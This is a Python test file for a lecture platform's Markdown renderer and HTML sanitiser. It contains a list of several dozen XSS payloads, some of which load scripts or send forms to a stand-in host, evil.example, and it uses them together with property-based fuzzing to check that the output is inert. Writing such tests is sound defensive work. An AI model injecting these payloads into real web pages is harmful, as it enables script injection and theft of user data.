"""The lecture text sanitiser: XSS payloads, and properties over arbitrary input."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from courses.rendering import render_markdown, sanitize_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="https://evil.example/track.png">',
    '<img src="//evil.example/x.png">',
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<form action="https://evil.example"><input name=p></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--<script>alert(1)</script>-->",
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    "<template><script>alert(1)</script></template>",
    '<a href="#" onclick="alert(1)">x</a>',
    '*emph* <b onclick="x()">bold</b>',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
]
FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "svg", "math", "style", "form", "input",
    "meta", "base", "link", "template", "frame", "frameset", "applet", "noscript",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "srcset"}
SAFE_SCHEMES = {"", "http", "https", "mailto", "tel"}


class TagCollector(HTMLParser):
    """What a browser would build from the HTML: tags and decoded attribute values."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def url_scheme(value: str) -> str:
    # Browsers drop ASCII whitespace and control characters inside a scheme.
    cleaned = "".join(ch for ch in value if ord(ch) > 32)
    return urlsplit(cleaned).scheme.lower() if ":" in cleaned.split("/")[0] else ""


def assert_inert(html: str) -> None:
    parser = TagCollector()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in FORBIDDEN_TAGS, html
        for name, value in attrs:
            assert not name.startswith("on") and name != "style", html
            if name in URL_ATTRIBUTES and value:
                assert url_scheme(value) in SAFE_SCHEMES, (value, html)
            if tag == "img" and name == "src":
                assert value.startswith("/") and not value.startswith("//"), html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    assert_inert(render_markdown(payload))
    assert_inert(sanitize_html(payload))


def test_ordinary_markdown_survives():
    html = render_markdown(
        "## 一、学习要点\n\n**坚持**学习党章。\n\n1. 第一条\n2. 第二条\n\n"
        "| 时间 | 内容 |\n|---|---|\n| 3月 | 主题党日 |\n\n"
        "[党章全文](https://www.example.org/dangzhang) ![讲义](/lectures/attachments/3/a.png)"
    )
    for fragment in (
        "<h2>一、学习要点</h2>",
        "<strong>坚持</strong>",
        "<ol>",
        "<td>主题党日</td>",
        'href="https://www.example.org/dangzhang"',
        'rel="noopener noreferrer nofollow"',
        'src="/lectures/attachments/3/a.png"',
    ):
        assert fragment in html


def test_html_in_markdown_keeps_safe_tags_only():
    html = render_markdown('正文<b>加粗</b><span onclick="x()">x</span><u>下划线</u>')
    assert "<b>加粗</b>" in html and "<u>下划线</u>" in html and "onclick" not in html


html_fragments = st.lists(
    st.one_of(
        st.text(max_size=20),
        st.sampled_from(PAYLOADS),
        st.sampled_from(
            [
                "<",
                ">",
                "&",
                '"',
                "'",
                "=",
                "/",
                "javascript:",
                " on",
                "<a href=",
                "<img src=",
                "](",
                "![",
                "[",
                "\n\n",
                "|",
                "<svg",
                "<!--",
                "-->",
                "&#",
                "\\",
                "`",
            ]
        ),
    ),
    max_size=25,
).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(html_fragments)
def test_property_output_is_inert_and_sanitising_is_idempotent(text):
    for rendered in (render_markdown(text), sanitize_html(text)):
        assert_inert(rendered)
        assert sanitize_html(rendered) == rendered
